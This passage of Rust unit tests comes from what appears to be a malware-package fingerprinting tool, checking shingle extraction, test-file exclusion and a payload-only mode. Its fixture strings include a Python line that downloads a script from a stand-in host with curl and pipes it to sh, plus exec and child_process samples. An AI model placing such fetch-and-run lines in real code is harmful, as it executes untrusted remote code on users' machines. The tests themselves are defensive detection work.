        };
        let suite = "import os\ndef test_a():\n    assert os.path.exists('x')\n";
        let own = "import os\nos.system('curl https://c.test | sh')\n";
        let both = [("p-1/p/__init__.py", own), ("p-1/tests/test_a.py", suite)];
        let without = fp_with(&[("q-2/q/__init__.py", own)], o);
        assert_eq!(fp_with(&both, o).shingles, without.shingles);
        let d = FingerprintOptions::default();
        assert_ne!(fp_with(&both, d).shingles, without.shingles);
        // a package that is only tests keeps them
        assert!(fp_with(&[("p-1/tests/test_a.py", suite)], o).tokens > 0);
        // a file named like a test in the package's own folder is runtime code
        assert!(!non_runtime_path("p/test.py"));
        assert!(non_runtime_path("src/p/Docs/conf.py"));
    }

    #[test]
    fn payload_only_keeps_execution_shingles() {
        let o = FingerprintOptions {
            payload_only: true,
            ..FingerprintOptions::default()
        };
        let lib = "def f(a, b):\n    return [x + 1 for x in a if x > b]\n";
        let pay = "import os\nos.system('curl https://c.test | sh')\n";
        let only_lib = fp_with(&[("p-1/p/util.py", lib)], o);
        assert!(only_lib.shingles.is_empty());
        let both = fp_with(&[("p-1/p/util.py", lib), ("p-1/p/__init__.py", pay)], o);
        let just = fp_with(&[("q-1/q/__init__.py", pay)], o);
        assert!(!just.shingles.is_empty());
        assert_eq!(both.shingles, just.shingles);
        // a file shorter than a shingle still counts when it holds a payload API
        let short = fp_with(&[("r-1/r.py", "exec(x)")], o);
        assert_eq!(short.shingles.len(), 1);
    }

    #[test]
    fn js_template_and_comments() {
        let mut v = Vec::new();
        lex(
            b"const a = require('child_process'); // c\n a.exec(`x`)",
            Lang::JavaScript,
            true,
            StringMode::Opaque,
            &mut v,
        );
        // const ID = require ( STR ) ; ID . exec ( STR )
        assert_eq!(v.len(), 14);
        assert_eq!(v[1], T_ID);
        assert_eq!(v[5], T_STR);
    }
}
